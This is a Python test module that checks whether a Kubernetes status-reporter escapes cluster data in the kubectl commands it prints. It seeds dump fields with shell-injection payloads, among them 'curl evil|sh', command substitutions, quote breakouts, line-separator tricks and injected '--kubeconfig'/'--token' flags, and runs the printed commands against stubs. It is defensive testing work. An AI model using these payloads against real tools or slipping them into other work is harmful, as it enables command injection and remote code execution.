"""Words of a shell in every text of a dump: what is printed to be copied runs nothing of them."""

import json
import re
import stat
import subprocess
from functools import cache

import yaml

from reporter.snapshot.documents import Document, read_documents
from tests.attacks.attack import ROOT, Outcome, attacks, broken, program

WORDS = {
    "semicolons": "a; curl evil|sh; touch pwned; #",
    "substitutions": "a$(touch pwned)b`touch pwned`",
    "quotes": "a'; touch pwned; '\"; touch pwned; \"",
    "ends of lines": "a\ntouch pwned\r\ntouch pwned\u2028touch pwned\u0085touch pwned",
    "redirections": "a > pwned 2>&1 & touch pwned && touch pwned || touch pwned",
    "flags": "--kubeconfig=/evil -n evil --token x",
}
EXAMPLES = (
    "broken-stack",
    "modelserving",
    "modelservice",
    "inferenceservice",
    "llminferenceservice",
)
NAMES = {"name", "namespace", "host", "claimName", "serviceAccountName", "image", "nodeName"}
KEPT = {"kind", "apiVersion", "status", "type", "reason"}
"""Fields without which nothing is found."""

_COMMAND = re.compile(r"kubectl (?:[^,;]|,(?=\S))*[^,;. ]")


@cache
def _documents():
    found = list(read_documents([ROOT / "examples" / each for each in EXAMPLES]))
    return [each.value for each in found if isinstance(each, Document)]


def _with_words(value, words, chosen, key=""):
    if isinstance(value, dict):
        return {name: _with_words(each, words, chosen, name) for name, each in value.items()}
    if isinstance(value, list):
        return [_with_words(each, words, chosen, key) for each in value]
    is_time = isinstance(value, str) and re.match(r"\d{4}-\d\d-\d\dT", value)
    if not isinstance(value, str) or is_time or not chosen(key):
        return value
    return value + words


def _stubs(folder):
    stubs = folder / "bin"
    stubs.mkdir()
    for name in ("kubectl", "status-reporter", "helm", "curl", "sh", "touch"):
        stub = stubs / name
        stub.write_text(f'#!/bin/sh\nprintf "%s\\n" {name} >> {folder}/called\n')
        stub.chmod(stub.stat().st_mode | stat.S_IXUSR)
    return stubs


def breaches(folder, commands):
    """Run commands in a shell that knows stubs alone; return those that run something else."""
    stubs, found = _stubs(folder), []
    called = folder / "called"
    for command in commands:
        called.write_text("")
        ran = subprocess.run(
            ["/bin/sh", "-c", command], cwd=folder, env={"PATH": str(stubs)}, capture_output=True,
            stdin=subprocess.DEVNULL, timeout=20, check=False,
        )  # fmt: skip
        others = set(called.read_text().split()) - {"kubectl", "status-reporter", "helm"}
        if ran.returncode or others or (folder / "pwned").exists():
            found.append(command)
    return found


def printed(report):
    """Return the commands of a report: those of its findings, and those in its own sentences."""
    for each in report["findings"]:
        yield from each.get("commands", ())
        if each["reason"] == "clusterStatusUnknown":
            yield from _COMMAND.findall(re.sub(r" \(and \d+ more\)", "", each["message"]))


def _outcome(folder, documents):
    path = folder / "dump.yaml"
    path.write_text(yaml.dump_all(documents, Dumper=yaml.CSafeDumper))
    ran = program("check", path, "-o", "json", "--fail-on", "none", seconds=40)
    if ran.failed or not ran.out:
        return broken(f"status {ran.status}: {ran.err[-200:]}")
    commands = {each.replace("<account>", "account") for each in printed(json.loads(ran.out))}
    text = program("check", path, "--fail-on", "none", seconds=40).out
    lines = (each.strip() for each in text.splitlines())
    commands |= {each.removeprefix("$ ") for each in lines if each.startswith("$ ")}
    found = breaches(folder, sorted(commands))
    return Outcome(
        held=not found, figure=f"{len(commands)} commands; run something else: {found[:3]}"
    )


def each_of_them(place):
    """Register an attack for each of the words; the first one is quick enough for the tests."""

    def register(function):
        rows = {f"{each} {place}": words for each, words in WORDS.items()}
        first = next(iter(rows))
        attacks({first: rows.pop(first)})(function)
        attacks(rows, quick=False)(function)

    return register


@each_of_them("in names")
def _(folder, words):
    return _outcome(folder, _with_words(_documents(), words, NAMES.__contains__))


@each_of_them("in messages, annotations and all else")
def _(folder, words):
    return _outcome(folder, _with_words(_documents(), words, lambda key: key not in NAMES | KEPT))


HEADER = {
    "apiVersion": "status-reporter/v1",
    "kind": "Dump",
    "collectedAt": "2026-11-20T12:00:00Z",
    "version": "1",
}


@each_of_them("in the permission of a dump's header")
def _(folder, words):
    permissions = (
        f"list, watch on services/x{words}",
        f"list, watch{words} on services in x{words}",
        f"list, watch on services in x{words}",
        words,
    )
    for permission in permissions:
        look = {"served": "unknown", "cause": "forbidden", "permission": permission}
        header = {**HEADER, "resources": {"services": look, "pods": {**look, "cause": words}}}
        place = folder / str(permissions.index(permission))
        place.mkdir()
        outcome = _outcome(place, [header, *_documents()])
        if not outcome.held:
            return outcome
    return outcome
